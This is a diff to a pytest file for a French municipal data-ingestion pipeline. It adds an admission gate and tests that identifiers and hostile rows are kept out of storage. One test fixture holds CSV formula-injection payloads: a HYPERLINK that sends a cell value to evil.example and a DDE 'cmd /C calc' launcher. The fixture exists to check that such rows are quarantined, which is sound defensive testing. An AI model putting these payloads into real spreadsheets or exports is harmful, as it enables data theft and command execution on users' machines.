@@ -13,6 +13,7 @@ import pyarrow.compute as pc
 import pytest
 
 from observatoire.city.profile import CityProfile
+from observatoire.gate.admit import Gate
 from observatoire.ingest.pipeline import ingest
 from observatoire.store.parquet import ParquetStore
 from tests.conftest import NOW, write
@@ -98,7 +99,8 @@ PATROLS = (
 )
 # Strings that must never reach the store: identifiers and free text of the exports above.
 SECRETS = ("BENALI", "Karim", "06 12 34 56 78", "PM0421", "PM0007", "AB-123-CD", "1234 AB 13", "rue de Rome",
-           "0612345678", "Durand", "@karim13", "4471987123", "06 11 22 33 44", "Noailles", "base64", "rue Paradis")
+           "0612345678", "Durand", "@karim13", "4471987123", "06 11 22 33 44", "base64", "rue Paradis",
+           "DUPONT Marie")
 
 CASES = {
     # file name, content, expected admitted, expected {row: reason}
@@ -116,16 +118,17 @@ CASES = {
 }
 
 
-def _ingest(tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, *files: tuple[str, str]):
+def _ingest(tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate,
+            *files: tuple[str, str]):
     paths = [write(tmp_path / "in", name, text) for name, text in files]
-    return ingest(paths, store=store, city=city, sources=sources, now=NOW, retention_days={"cctv_events": 30})
+    return ingest(paths, store=store, city=city, sources=sources, gate=gate, now=NOW, retention_days={"cctv_events": 30})
 
 
 @pytest.mark.parametrize("source", sorted(CASES))
 def test_when_a_source_file_has_good_and_bad_rows_then_each_bad_row_is_quarantined_with_its_reason(
-        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, source: str) -> None:
+        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate, source: str) -> None:
     name, text, admitted, reasons = CASES[source]
-    [report] = _ingest(tmp_path, store, city, sources, (name, text))
+    [report] = _ingest(tmp_path, store, city, sources, gate, (name, text))
     assert report.source == source and report.committed
     assert report.rows_read == report.admitted + report.quarantined
     assert report.admitted == admitted
@@ -135,8 +138,8 @@ def test_when_a_source_file_has_good_and_bad_rows_then_each_bad_row_is_quarantin
 
 
 def test_cctv_events_keep_only_decree_types_from_registered_cameras_and_never_images(
-        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict) -> None:
-    reports = _ingest(tmp_path, store, city, sources, ("cctv_events_t.jsonl", CCTV), ("cctv_cameras_t.csv", CAMERAS))
+        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
+    reports = _ingest(tmp_path, store, city, sources, gate, ("cctv_events_t.jsonl", CCTV), ("cctv_cameras_t.csv", CAMERAS))
     assert [r.source for r in reports] == ["cctv_cameras", "cctv_events"]  # the registry goes first
     events = store.events().to_pyarrow()
     assert sorted(events["category"].to_pylist()) == ["cctv_fire_start", "cctv_weapon", "cctv_weapon"]
@@ -152,15 +155,15 @@ def test_cctv_events_keep_only_decree_types_from_registered_cameras_and_never_im
 
 
 def test_when_cctv_events_come_without_a_camera_registry_then_ingest_refuses_clearly(
-        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict) -> None:
+        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
     with pytest.raises(Exception, match="needs cctv_cameras"):
-        _ingest(tmp_path, store, city, sources, ("cctv_events_t.jsonl", CCTV))
+        _ingest(tmp_path, store, city, sources, gate, ("cctv_events_t.jsonl", CCTV))
 
 
 def test_no_identifier_or_free_text_reaches_the_store(tmp_path: Path, store: ParquetStore, city: CityProfile,
-                                                      sources: dict) -> None:
+                                                      sources: dict, gate: Gate) -> None:
     files = [(n, t) for n, t, _, _ in CASES.values()] + [("cctv_events_t.jsonl", CCTV)]
-    _ingest(tmp_path, store, city, sources, *files)
+    _ingest(tmp_path, store, city, sources, gate, *files)
     stored = b"".join(p.read_bytes() for p in store.root.rglob("*") if p.is_file())
     # Parquet pages are compressed: check the decoded values too.
     text = " ".join(str(v) for tbl in (store.events(), store.quarantine()) for v in tbl.to_pyarrow().to_pylist())
@@ -169,10 +172,10 @@ def test_no_identifier_or_free_text_reaches_the_store(tmp_path: Path, store: Par
         assert secret not in text, secret
 
 
-def test_french_conventions_are_read(tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict) -> None:
+def test_french_conventions_are_read(tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
     """Windows-1252 with decimal commas; a BOM; DST: an ambiguous local time is the earlier instant."""
     path = write(tmp_path / "in", "mains_courantes_cp1252.csv", MC, encoding="cp1252")
-    ingest([path], store=store, city=city, sources=sources, now=NOW)
+    ingest([path], store=store, city=city, sources=sources, gate=gate, now=NOW)
     events = store.events().to_pyarrow()
     by_ref = {r["attributes"]["mains_courantes"]["logbook_ref"]: r for r in events.to_pylist()}
     assert by_ref["MC-11"]["occurred_at"].isoformat() == "2025-10-26T00:30:00+00:00"  # 02:30 CEST, not CET
@@ -184,8 +187,8 @@ def test_french_conventions_are_read(tmp_path: Path, store: ParquetStore, city: 
 
 
 def test_fines_and_hospital_precision_and_zone(tmp_path: Path, store: ParquetStore, city: CityProfile,
-                                               sources: dict) -> None:
-    _ingest(tmp_path, store, city, sources, ("verbalisations_t.csv", FINES), ("hospital_t.csv", HOSPITAL))
+                                               sources: dict, gate: Gate) -> None:
+    _ingest(tmp_path, store, city, sources, gate, ("verbalisations_t.csv", FINES), ("hospital_t.csv", HOSPITAL))
     rows = {(r["source"], r["source_row"]): r for r in store.events().to_pyarrow().to_pylist()}
     assert rows[("verbalisations", 2)]["time_precision"] == "day"
     assert rows[("verbalisations", 1)]["attributes"]["verbalisations"] == {"natinf": 11302, "amount_eur": 35.0}
@@ -196,10 +199,67 @@ def test_fines_and_hospital_precision_and_zone(tmp_path: Path, store: ParquetSto
 
 
 def test_stored_counts_equal_a_direct_duckdb_query_of_the_parquet_files(
-        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict) -> None:
-    _ingest(tmp_path, store, city, sources, *[(n, t) for n, t, _, _ in CASES.values()])
+        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
+    _ingest(tmp_path, store, city, sources, gate, *[(n, t) for n, t, _, _ in CASES.values()])
     files = [str(p) for p in store.event_files()]
     direct = duckdb.sql(f"select source, count(*) n from read_parquet({files}) group by 1 order by 1").fetchall()
     t = store.events()
     via_ibis = t.group_by("source").agg(n=t.count()).order_by("source").to_pyarrow().to_pylist()
     assert [(r["source"], r["n"]) for r in via_ibis] == direct
+
+
+SAMPLES = Path(__file__).resolve().parents[1] / "docs" / "samples"
+
+
+def test_every_documented_sample_file_is_admitted_whole(tmp_path: Path, store: ParquetStore, city: CityProfile,
+                                                        sources: dict, gate: Gate) -> None:
+    files = sorted(SAMPLES.iterdir())
+    assert {resolve_name(p, sources) for p in files} == set(sources)  # one sample per registered source
+    reports = ingest(files, store=store, city=city, sources=sources, gate=gate, now=NOW)
+    for r in reports:
+        assert r.rows_read > 0 and r.quarantined == 0 and r.admitted == r.rows_read, (r.source, r.reasons)
+
+
+def resolve_name(path: Path, sources: dict) -> str:
+    from observatoire.sources.registry import resolve
+
+    return resolve(path, sources).name
+
+
+def test_hospital_counts_suppress_small_and_hidden_counts(tmp_path: Path, store: ParquetStore, city: CityProfile,
+                                                          sources: dict, gate: Gate) -> None:
+    ingest([SAMPLES / "hospital_counts_sample.csv"], store=store, city=city, sources=sources, gate=gate, now=NOW)
+    rows = store.reference("hospital_counts").to_pyarrow().to_pylist()
+    assert [(r["count"], r["suppressed"]) for r in rows] == [
+        (14, False), (None, True), (None, True), (23, False), (None, True), (11, False)]
+
+
+HOSTILE_FINES = (
+    "numero_avis;date_infraction;heure_infraction;natinf;libelle_infraction;lieu;longitude;latitude;"
+    "immatriculation;montant_eur;matricule_agent\n"
+    'A1;03/03/2025;09:15;11302;"=HYPERLINK(""http://evil.example/?""&A1;""clic"")";;5,3780;43,2950;AB-123-CD;35,00;PM1\n'
+    "A2;03/03/2025;09:15;11302;@SUM(1+1)*cmd|' /C calc'!A0;;5,3780;43,2950;AB-123-CD;35,00;PM1\n"
+    f"A3;03/03/2025;09:15;11302;{'x' * 50_000};;5,3780;43,2950;AB-123-CD;35,00;PM1\n"
+    "A4;03/03/2025;09:15;11302;Stationnement;;-5,3780;43,2950;AB-123-CD;35,00;PM1\n"
+    "A5;03/03/2025;09:15;11302;ok;;5,3780;43,2950;AB-123-CD;35,00;PM1\n"
+    "A6;03/03/2025;09:1"
+)
+
+
+def test_hostile_cells_are_quarantined_and_a_truncated_last_line_too(
+        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
+    [r] = _ingest(tmp_path, store, city, sources, gate, ("verbalisations_h.csv", HOSTILE_FINES))
+    q = {row["source_row"]: row["reason"] for row in store.quarantine().to_pyarrow().to_pylist()}
+    assert q == {1: "formula_cell", 2: "formula_cell", 3: "oversized_field", 4: "outside_city", 6: "malformed_row"}
+    assert (r.rows_read, r.admitted) == (6, 1)
+    blob = b"".join(p.read_bytes() for p in store.root.rglob("*.parquet"))
+    assert b"HYPERLINK" not in blob and b"evil.example" not in blob
+
+
+def test_when_a_file_is_in_an_unknown_binary_encoding_then_it_is_refused_clearly(
+        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
+    path = tmp_path / "mains_courantes_utf16.csv"
+    path.write_bytes(MC.encode("utf-16"))
+    with pytest.raises(Exception, match="binary content|missing column"):
+        ingest([path], store=store, city=city, sources=sources, gate=gate, now=NOW)
+    assert not store.manifest_path.exists()
